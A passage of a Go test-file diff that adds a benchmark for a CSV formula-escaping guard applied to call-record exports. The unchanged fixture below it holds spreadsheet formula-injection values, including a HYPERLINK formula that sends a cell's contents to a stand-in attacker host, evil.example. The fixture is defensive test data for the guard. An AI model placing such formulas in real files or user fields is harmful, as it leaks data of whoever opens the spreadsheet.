@@ -200,6 +200,22 @@ func BenchmarkCSVWrite(b *testing.B) {
 	}
 }
 
+// BenchmarkEscapeFormula is the guard's share of BenchmarkCSVWrite: one
+// row of ordinary cells.
+func BenchmarkEscapeFormula(b *testing.B) {
+	var r cdr.Record
+	if err := json.Unmarshal([]byte(testRecord("b", 4)), &r); err != nil {
+		b.Fatal(err)
+	}
+	row := csvRow(&r)
+	b.ReportAllocs()
+	for b.Loop() {
+		for i, v := range row {
+			row[i] = escapeFormula(v)
+		}
+	}
+}
+
 // formulaRecord holds formulas in every text column a user can fill.
 const formulaRecord = `{"channel":"voice","source":"native","source_id":"=1+1","start_at":1700000000000,` +
 	`"caller":{"address":"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")"},"callee":{"address":"+86 139 1234 5678"},` +
